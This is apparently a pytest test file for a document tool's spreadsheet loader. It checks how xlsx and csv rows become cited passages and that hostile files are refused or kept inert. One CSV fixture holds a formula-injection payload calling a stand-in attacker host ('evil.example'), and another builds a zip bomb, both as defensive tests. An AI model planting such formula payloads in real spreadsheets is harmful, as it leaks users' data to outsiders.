"""Spreadsheets read as records by the real reader (openpyxl, csv): a row per passage
with its column names and its place, amounts and dates as the sheet shows them, and
hostile files refused or cut with a clear message, never run."""

from __future__ import annotations

import datetime as dt
import time
import zipfile
from pathlib import Path

import pytest

from hushdesk.assistant.citations import Citation
from hushdesk.errors import DocumentError
from hushdesk.library import loaders, sheets
from hushdesk.library.chunker import chunk_pages
from hushdesk.library.sheets import cell_text
from hushdesk.library.store import DocumentStore
from tests.keys import vault_key

RENTS = [
    ("Tenant", "Property", "Monthly rent", "Due"),
    ("Acme Ltd", "12 High St", 1250, dt.date(2026, 1, 1)),
    ("Birch & Co", "3 Mill Lane", 980.5, dt.date(2026, 2, 1)),
    ("Cobalt Partners LLP", "Unit 4, Dock Road", 12400, dt.date(2026, 3, 15)),
]


def rents_xlsx(path: Path) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Rents"
    for row in RENTS:
        sheet.append(list(row))
    for rent, due in sheet.iter_rows(min_row=2, min_col=3, max_col=4):
        rent.number_format = "#,##0.00"
        due.number_format = "dd/mm/yyyy"
    sheet["F2"] = "=SUM(C2:C4)"  # a formula no spreadsheet app ever calculated
    notes = book.create_sheet("Notes")
    notes["B3"] = "Keys held by the agent"
    notes["C3"] = 3
    book.save(path)
    return path


def test_an_xlsx_is_read_row_by_row_with_its_column_names(tmp_path: Path) -> None:
    document = loaders.load_here(str(rents_xlsx(tmp_path / "rents.xlsx")), None, True)
    assert (document.kind, document.title, document.paginated) == ("xlsx", "rents", False)
    assert [p.label for p in document.pages] == [
        "sheet Rents, row 2",
        "sheet Rents, row 3",
        "sheet Rents, row 4",
        "sheet Notes, row 3",
    ]
    assert document.pages[1].text == (
        'Sheet "Rents", row 3 — Tenant: Birch & Co; Property: 3 Mill Lane; '
        "Monthly rent: 980.50; Due: 2026-02-01"
    )
    assert "Monthly rent: 12,400.00" in document.pages[2].text
    assert "SUM" not in " ".join(p.text for p in document.pages)  # never evaluated, nor shown
    # A sheet that starts with data has no header: its columns are named by letter.
    assert (
        document.pages[3].text
        == 'Sheet "Notes", row 3 — Column B: Keys held by the agent; Column C: 3'
    )


def test_each_row_is_its_own_passage_and_its_place_is_what_a_citation_names(
    tmp_path: Path,
) -> None:
    document = loaders.load_here(str(rents_xlsx(tmp_path / "rents.xlsx")), None, True)
    chunks = chunk_pages(document.pages)
    assert [(c.page, c.label) for c in chunks] == [(p.number, p.label) for p in document.pages]
    citation = Citation(1, "/x/rents.xlsx", "rents.xlsx", 7, 2, False, chunks[1].text, 0, 9, 0.8,
                        label=chunks[1].label)  # fmt: skip
    assert citation.where == "rents.xlsx, sheet Rents, row 3"
    assert Citation.from_dict(citation.to_dict()) == citation
    older = citation.to_dict()
    del older["label"]  # a citation saved before labels: read back as a section
    assert Citation.from_dict(older).where == "rents.xlsx, section 2"  # type: ignore[union-attr]


def test_the_store_keeps_a_passage_label(tmp_path: Path) -> None:
    document = loaders.load_here(str(rents_xlsx(tmp_path / "rents.xlsx")), None, True)
    store = DocumentStore(vault_key("library"), tmp_path / "library.db")
    try:
        library = store.library("L", embedding_model="m")
        file_id = store.queue(library, "/x/rents.xlsx", sha256="0" * 64, size=1, mtime=0)
        store.replace_content(file_id, document, chunk_pages(document.pages))
        assert [c.label for c in store.chunks_of(file_id)][:2] == [
            "sheet Rents, row 2",
            "sheet Rents, row 3",
        ]
    finally:
        store.close()


@pytest.mark.parametrize(
    ("value", "shown", "expected"),
    [
        (1250, "#,##0.00", "1,250.00"),
        (980.5, "General", "980.5"),
        (12400.0, "General", "12400"),
        (0.125, "0.0%", "12.5%"),
        (-1234.5, '"$"#,##0.00_);("$"#,##0.00)', "-$1,234.50"),
        (1234.5, "[$£-809]#,##0.00", "£1,234.50"),
        (-0.001, "0.00", "0.00"),
        (dt.datetime(2026, 1, 1), "mm/dd/yy", "2026-01-01"),
        (dt.datetime(2026, 1, 1, 9, 30), "General", "2026-01-01 09:30"),
        (True, "General", "TRUE"),
        (None, "General", ""),
    ],
)
def test_a_cell_reads_as_its_sheet_shows_it(value: object, shown: str, expected: str) -> None:
    assert cell_text(value, shown) == expected


def test_a_csv_is_read_with_its_delimiter_and_encoding_and_formulas_stay_text(
    tmp_path: Path,
) -> None:
    path = tmp_path / "rents.csv"
    text = (
        "Tenant;Property;Monthly rent\r\n"
        'Acme Ltd;12 High St;"1,250.00"\r\n'
        'Café Noir;=HYPERLINK("http://evil.example/?leak","click");£75.00\r\n'
    )
    path.write_bytes(text.encode("cp1252"))  # an old Excel export: not UTF-8
    document = loaders.load_here(str(path), None, True)
    assert (document.kind, document.paginated) == ("csv", False)
    assert [p.label for p in document.pages] == ["row 2", "row 3"]
    assert document.pages[0].text == (
        "Row 2 — Tenant: Acme Ltd; Property: 12 High St; Monthly rent: 1,250.00"
    )
    assert document.pages[1].text == (
        'Row 3 — Tenant: Café Noir; Property: =HYPERLINK("http://evil.example/?leak","click"); '
        "Monthly rent: £75.00"
    )
    path.write_bytes(("\ufeff" + text.replace(";", ",")).encode("utf-8"))  # with a BOM
    assert (
        loaders.load_here(str(path), None, True)
        .pages[1]
        .text.startswith("Row 3 — Tenant: Café Noir; Property: ")
    )


def test_a_title_above_the_header_is_kept_and_the_header_still_names_the_columns(
    tmp_path: Path,
) -> None:
    path = tmp_path / "fees.csv"
    path.write_text("Fee schedule 2026\n\nService,Fee\nConveyancing,850\nProbate,1200\n")
    assert [p.text for p in loaders.load_here(str(path), None, True).pages] == [
        "Row 1 — Column A: Fee schedule 2026",
        "Row 4 — Service: Conveyancing; Fee: 850",
        "Row 5 — Service: Probate; Fee: 1200",
    ]
    path.write_text("Conveyancing,850\nProbate,1200\n")  # no header: columns by letter
    assert [p.text for p in loaders.load_here(str(path), None, True).pages] == [
        "Row 1 — Column A: Conveyancing; Column B: 850",
        "Row 2 — Column A: Probate; Column B: 1200",
    ]


def test_a_million_row_csv_is_cut_with_a_warning(tmp_path: Path) -> None:
    path = tmp_path / "ledger.csv"
    with path.open("w") as out:
        out.write("Entry,Amount\n")
        out.writelines(f"Entry {i},{i}.00\n" for i in range(1_000_000))
    started = time.monotonic()
    document = loaders.load_here(str(path), None, True)
    assert time.monotonic() - started < 30
    assert len(document.pages) == sheets.MAX_ROWS
    assert (
        document.pages[-1].text
        == f"Row {sheets.MAX_ROWS + 1} — Entry: Entry 49999; Amount: 49999.00"
    )
    assert any("Only the first 50,000 rows" in w for w in document.warnings)


def test_a_csv_field_that_never_ends_is_refused_with_a_reason(tmp_path: Path) -> None:
    path = tmp_path / "broken.csv"
    path.write_text('Name,Note\nA,"' + "x" * 300_000 + "\n")
    with pytest.raises(DocumentError, match="not a readable CSV file"):
        loaders.load_here(str(path), None, True)


def test_an_xlsx_zip_bomb_is_refused_before_it_is_inflated(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            for _ in range(60):
                member.write(b"\0" * (1 << 20))
    with pytest.raises(DocumentError, match="looks like a zip bomb"):
        loaders.load_here(str(path), None, True)


def test_an_xlsx_reads_no_column_past_the_cap(tmp_path: Path) -> None:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Item", "Price"])
    sheet.append(["Chair", 40])
    sheet.cell(row=3, column=16_000, value="far away")  # claims a sheet 16,000 wide
    path = tmp_path / "wide.xlsx"
    book.save(path)
    document = loaders.load_here(str(path), None, True)
    assert [p.text for p in document.pages] == ['Sheet "Sheet", row 2 — Item: Chair; Price: 40']


def test_a_file_that_is_not_a_workbook_says_so(tmp_path: Path) -> None:
    path = tmp_path / "fake.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    with pytest.raises(DocumentError, match=r"fake\.xlsx"):
        loaders.load_here(str(path), None, True)


def test_a_store_made_before_labels_gains_them_and_keeps_its_passages(tmp_path: Path) -> None:
    from hushdesk.library import store as module

    class Older(DocumentStore):
        migrations = module.SCHEMA[:-1]

    path, key = tmp_path / "library.db", vault_key("library")
    old = Older(key, path)
    library = old.library("L", embedding_model="m")
    file_id = old.queue(library, "/x/lease.pdf", sha256="0" * 64, size=1, mtime=0)
    with old._tx() as db:
        db.execute(
            "INSERT INTO chunks (file_id, page, start, end, text) VALUES (?, 1, 0, 6, 'notice')",
            (file_id,),
        )
    old.close()
    store = DocumentStore(key, path)
    try:
        (chunk,) = store.chunks_of(file_id)
        assert (chunk.text, chunk.label) == ("notice", "")
    finally:
        store.close()
